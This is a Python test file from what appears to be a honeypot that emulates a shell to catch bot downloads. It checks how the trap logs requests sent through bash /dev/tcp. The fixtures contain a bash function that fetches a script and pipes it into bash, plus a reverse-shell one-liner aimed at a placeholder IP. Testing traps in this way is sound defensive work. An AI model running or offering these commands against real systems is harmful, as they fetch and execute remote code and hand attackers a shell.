"""``/dev/tcp`` as bots without wget use it: an HTTP request goes to the fetcher, its answer comes back as bytes."""

from __future__ import annotations

from tests.machine.loaders.dialogue import Visit

from urltrap.model.event import DownloadAsked

FUNCTION = """\
function __curl() {
  read proto server path <<<$(echo ${1//// })
  DOC=/${path// //}; HOST=${server//:*}; PORT=${server//*:}
  [[ x"${HOST}" == x"${PORT}" ]] && PORT=80
  exec 3<>/dev/tcp/${HOST}/$PORT
  echo -en "GET ${DOC} HTTP/1.0\\r\\nUser-Agent: probe\\r\\nHost: ${HOST}\\r\\n\\r\\n" >&3
  (while read line; do [[ "$line" == $'\\r' ]] && break; done && cat) <&3
  exec 3>&-
}
"""


def test_a_shell_function_downloads_through_dev_tcp() -> None:
    visit = Visit("debian-12", protocol="ssh", bodies={b"/x.sh": b"echo hello from x\n"})
    assert visit.exec(FUNCTION + "__curl http://198.51.100.9:60122/a/x.sh | bash") == "hello from x\n"
    assert visit.urls == [b"http://198.51.100.9:60122/a/x.sh"]
    assert visit.requests[0].client == "dev-tcp" and visit.requests[0].user_agent == b"probe"
    asked = [fact.fields["url"] for fact in visit.facts if fact.event is DownloadAsked]
    assert asked == [b"tcp://198.51.100.9:60122", b"http://198.51.100.9:60122/a/x.sh"]


def test_the_head_comes_as_on_the_wire() -> None:
    visit = Visit("debian-12", protocol="ssh", bodies={b"/x": b"body"})
    came = visit.exec("exec 3<>/dev/tcp/h.example/80; printf 'GET /x HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3")
    assert came.startswith("HTTP/1.1 200 OK\r\n") and came.endswith("\r\n\r\nbody")


def test_a_reverse_shell_meets_a_peer_that_closes() -> None:
    visit = Visit("debian-12", protocol="ssh")
    assert visit.exec("bash -i >& /dev/tcp/198.51.100.9/4444 0>&1; echo $?") == "0\n"
    assert visit.urls == []


def test_an_answer_that_never_came_is_a_closed_connection() -> None:
    visit = Visit("debian-12", protocol="ssh")
    came = visit.exec(
        "exec 3<>/dev/tcp/h.example/80; printf 'GET /y HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3; echo $?"
    )
    assert came == "0\n"
    assert visit.urls == [b"http://h.example/y"]
